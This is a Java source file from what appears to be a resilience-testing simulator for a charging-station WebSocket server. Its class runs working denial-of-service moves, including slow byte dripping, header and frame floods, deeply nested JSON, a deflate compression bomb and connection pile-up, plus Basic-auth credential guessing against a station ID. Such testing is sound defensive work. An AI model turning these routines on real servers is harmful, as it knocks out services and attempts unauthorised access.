// SPDX-License-Identifier: Apache-2.0
package dev.stationkeeper.simulator.attack;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.net.SocketTimeoutException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.concurrent.locks.LockSupport;
import java.util.zip.Deflater;
import java.util.zip.DeflaterOutputStream;

/** What attackers do, once each. */
final class Moves {
  private static final int MOST_FRAMES = 100_000;
  private static final int MOST_BYTES = 10_000;
  private static final int PATIENCE_MILLIS = 15_000;
  private static final long DRIP_NANOS = 100_000_000;
  private static final int PILE = 500;

  private Moves() {}

  static String sayNothing(Attacker attacker) throws IOException {
    try (RawConnection connection = attacker.connectOnly()) {
      return connection.waitForCut(PATIENCE_MILLIS);
    }
  }

  static String requestByteByByte(Attacker attacker) throws IOException {
    try (RawConnection connection = attacker.connect()) {
      connection.say(attacker.request(attacker.station()));
      return drip(connection, "X-Slow: ".getBytes(StandardCharsets.US_ASCII), (byte) 'x');
    }
  }

  static String comeAndGo(Attacker attacker) throws IOException {
    try (RawConnection connection = attacker.connect()) {
      connection.say(attacker.request(attacker.station()) + "\r\n");
      return "http " + connection.status();
    }
  }

  static String endlessRequest(Attacker attacker) throws IOException {
    try (RawConnection connection = attacker.connect()) {
      connection.say(attacker.request(attacker.station()));
      for (int i = 0; i < MOST_BYTES; i++) {
        connection.say("X-Header-" + i + ": " + "x".repeat(100) + "\r\n");
      }
      return "http " + connection.status();
    } catch (SocketTimeoutException e) {
      return "open";
    } catch (IOException e) {
      return "cut";
    }
  }

  static String hugeFrame(Attacker attacker) throws IOException {
    try (RawConnection connection = admitted(attacker)) {
      return afterwards(
          connection,
          RawConnection.frame(true, false, RawConnection.TEXT, 16L << 20, new byte[1_000]));
    }
  }

  static String deepJson(Attacker attacker) throws IOException {
    String deep = "[2,\"d\",\"DataTransfer\",{\"vendorId\":\"v\",\"data\":" + "[".repeat(60_000);
    try (RawConnection connection = admitted(attacker)) {
      connection.say(RawConnection.text(deep + "]".repeat(60_000) + "}]"));
      return connection.message().startsWith("[4,") ? "answered with an error" : "answered";
    }
  }

  static String flood(Attacker attacker) throws IOException {
    return flood(attacker, RawConnection.text("[2,\"f\",\"Heartbeat\",{}]"));
  }

  static String pings(Attacker attacker) throws IOException {
    return flood(
        attacker, RawConnection.frame(true, false, RawConnection.PING, 4, new byte[] {1, 2, 3, 4}));
  }

  static String fragments(Attacker attacker) throws IOException {
    try (RawConnection connection = admitted(attacker)) {
      connection.say(RawConnection.frame(false, false, RawConnection.TEXT, 0, new byte[0]));
      return repeat(
          connection,
          RawConnection.frame(false, false, RawConnection.CONTINUATION, 0, new byte[0]));
    }
  }

  static String frameByteByByte(Attacker attacker) throws IOException {
    try (RawConnection connection = admitted(attacker)) {
      return drip(
          connection,
          RawConnection.frame(true, false, RawConnection.TEXT, 100_000, new byte[0]),
          (byte) ' ');
    }
  }

  static String bomb(Attacker attacker) throws IOException {
    ByteArrayOutputStream small = new ByteArrayOutputStream();
    try (DeflaterOutputStream deflater =
        new DeflaterOutputStream(small, new Deflater(Deflater.BEST_COMPRESSION, true))) {
      byte[] zeros = new byte[1 << 20];
      for (int i = 0; i < 64; i++) {
        deflater.write(zeros);
      }
    }
    byte[] payload = small.toByteArray();
    try (RawConnection connection = attacker.connect()) {
      connection.say(
          attacker.request(attacker.station(), "Sec-WebSocket-Extensions: permessage-deflate")
              + "\r\n");
      int status = connection.status();
      return status == 101
          ? afterwards(
              connection,
              RawConnection.frame(true, true, RawConnection.TEXT, payload.length, payload))
          : "http " + status;
    }
  }

  static String pileUp(Attacker attacker) throws IOException {
    List<RawConnection> pile = new ArrayList<>(PILE);
    try {
      String last = "open";
      for (int i = 0; i < PILE && attacker.hasTime() && last.equals("open"); i++) {
        RawConnection connection = attacker.connectOnly();
        pile.add(connection);
        last = connection.waitForCut(20);
      }
      return last;
    } finally {
      for (RawConnection connection : pile) {
        connection.close();
      }
    }
  }

  static String guess(Attacker attacker) throws IOException {
    String pair = attacker.victim() + ":" + Long.toHexString(System.nanoTime()) + "-guess-guess";
    String basic = Base64.getEncoder().encodeToString(pair.getBytes(StandardCharsets.US_ASCII));
    try (RawConnection connection = attacker.connect()) {
      connection.say(attacker.request(attacker.victim(), "Authorization: Basic " + basic) + "\r\n");
      return "http " + connection.status();
    }
  }

  private static RawConnection admitted(Attacker attacker) throws IOException {
    RawConnection connection = attacker.connect();
    try {
      connection.say(attacker.request(attacker.station()) + "\r\n");
      int status = connection.status();
      if (status != 101) {
        throw new IOException("not let in: " + status);
      }
      return connection;
    } catch (IOException e) {
      connection.close();
      throw e;
    }
  }

  private static String flood(Attacker attacker, byte[] frame) throws IOException {
    try (RawConnection connection = admitted(attacker)) {
      return repeat(connection, frame);
    }
  }

  private static String repeat(RawConnection connection, byte[] frame) {
    try {
      for (int i = 0; i < MOST_FRAMES; i++) {
        connection.say(frame);
      }
    } catch (IOException e) {
      // It has had enough of it; what it said before stands in the buffer.
      return connection.end();
    }
    return connection.end();
  }

  private static String afterwards(RawConnection connection, byte[] bytes) {
    try {
      connection.say(bytes);
    } catch (IOException e) {
      return connection.end();
    }
    return connection.end();
  }

  /** Says {@code first} and then {@code filler} ten times a second until it is stopped. */
  private static String drip(RawConnection connection, byte[] first, byte filler) {
    try {
      connection.say(first);
      long begun = System.nanoTime();
      while (System.nanoTime() - begun < PATIENCE_MILLIS * 1_000_000L) {
        LockSupport.parkNanos(DRIP_NANOS);
        connection.say(new byte[] {filler});
      }
    } catch (IOException e) {
      return connection.end();
    }
    return connection.end();
  }
}
